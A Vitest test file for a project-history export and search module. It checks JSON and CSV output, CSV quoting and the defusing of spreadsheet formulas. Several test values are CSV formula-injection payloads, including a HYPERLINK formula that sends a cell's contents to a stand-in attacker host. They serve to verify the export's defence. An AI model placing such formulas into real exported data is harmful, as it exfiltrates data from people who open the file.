import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import { exportHistoryCsv, exportHistoryJson, HISTORY_EXPORT_FORMAT } from '@/lib/projects/history-export';
import type { ProjectHistory } from '@/lib/storage/history/history-schema';
import { searchHistory } from '@/lib/projects/history-search';
import { loadStorageFixture } from '../fixtures/storage/load';

const history = loadStorageFixture<ProjectHistory>('project-history.v1.json');
const AT = new Date(2026, 10, 21, 15, 30);
const WORKSPACE = { name: 'Acme — Staging!' };

describe('history export', () => {
  it('JSON: every entry, oldest first, in a named and versioned document that names its workspace', () => {
    const file = exportHistoryJson(history, AT, WORKSPACE);
    expect(file.fileName).toBe('project-history-acme-staging-2026-11-21.json');
    expect(file.mimeType).toBe('application/json');
    expect(JSON.parse(file.text)).toEqual({
      format: HISTORY_EXPORT_FORMAT,
      version: 1,
      exportedAt: AT.toISOString(),
      workspace: WORKSPACE,
      projects: history,
    });
  });

  it('CSV: a header, one quoted-as-needed row per project, and formulas defused', () => {
    const file = exportHistoryCsv(history, AT, WORKSPACE);
    expect(file.fileName).toBe('project-history-acme-staging-2026-11-21.csv');
    expect(file.mimeType).toBe('text/csv');
    const rows = Papa.parse<string[]>(file.text.trimEnd(), { newline: '\r\n' }).data;
    expect(rows[0]).toEqual(['project_id', 'project_link', 'project_url', 'project_name', 'created_at']);
    expect(rows.slice(1)).toEqual([
      ['prj_1a2b3c', '', 'https://example.com/articles/42', 'Article 42', '2026-11-01T09:30:00.000Z'],
      [
        'prj_4d5e6f',
        '',
        'https://Example.com:443/articles/42#comments',
        'Article 42 (again)',
        '2026-11-02T14:05:00.000Z',
      ],
      // A page title that a spreadsheet would run: a leading apostrophe makes it text.
      [
        'prj_7a8b9c',
        '',
        'https://docs.example.org/guide?lang=en',
        `'=HYPERLINK("https://evil.example","Guide")`,
        '2026-11-03T08:00:00.000Z',
      ],
    ]);
    expect(file.text.endsWith('\r\n')).toBe(true);
  });

  it('CSV guards a page title that starts a formula and contains a line break', () => {
    const title = '=HYPERLINK("https://evil.example/?u="&B2,"Guide")\nmore';
    const entries = [{ projectId: 'p', projectUrl: '-1+2', projectName: title, createdAt: 'x' }];
    const rows = Papa.parse<string[]>(exportHistoryCsv(entries, AT, WORKSPACE).text.trimEnd(), {
      newline: '\r\n',
    }).data;
    expect(rows[1]).toEqual(['p', '', "'-1+2", `'${title}`, 'x']);
  });

  it('CSV keeps commas, quotes and line breaks inside one field', () => {
    const tricky = [
      { projectId: 'p', projectUrl: 'https://e.com/?a=1,2', projectName: 'Say "hi",\nthen go', createdAt: 'x' },
    ];
    const rows = Papa.parse<string[]>(exportHistoryCsv(tricky, AT, WORKSPACE).text.trimEnd(), { newline: '\r\n' }).data;
    expect(rows[1]).toEqual(['p', '', 'https://e.com/?a=1,2', 'Say "hi",\nthen go', 'x']);
  });

  it('with the workspace’s project link: each project’s link in CSV (project_link) and JSON (link)', () => {
    const linked = { ...WORKSPACE, projectLink: 'https://app.example.com/projects/{projectId}' };
    const rows = Papa.parse<string[]>(exportHistoryCsv(history, AT, linked).text.trimEnd(), { newline: '\r\n' }).data;
    expect(rows.slice(1).map((row) => row[1])).toEqual([
      'https://app.example.com/projects/prj_1a2b3c',
      'https://app.example.com/projects/prj_4d5e6f',
      'https://app.example.com/projects/prj_7a8b9c',
    ]);
    const json = JSON.parse(exportHistoryJson(history, AT, linked).text) as { workspace: unknown; projects: unknown[] };
    expect(json.workspace).toEqual(WORKSPACE);
    expect(json.projects).toEqual(
      history.map((entry) => ({ ...entry, link: `https://app.example.com/projects/${entry.projectId}` })),
    );
  });
});

describe('searchHistory', () => {
  it.each<[string, string, string[]]>([
    ['empty search: all, newest first', '', ['prj_7a8b9c', 'prj_4d5e6f', 'prj_1a2b3c']],
    ['by name, any case', 'article 42 (AGAIN', ['prj_4d5e6f']],
    ['by address', 'docs.example', ['prj_7a8b9c']],
    ['by id', 'PRJ_1A', ['prj_1a2b3c']],
    ['spaces around are ignored', '  guide  ', ['prj_7a8b9c']],
    ['every word, in any order, across name and address', 'comments 42 again', ['prj_4d5e6f']],
    ['accents and case ignored', 'ÁRTÎCLE Again', ['prj_4d5e6f']],
    ['nothing', 'zzz', []],
  ])('%s', (_label, search, ids) => {
    expect(searchHistory(history, search).map((entry) => entry.projectId)).toEqual(ids);
  });
});
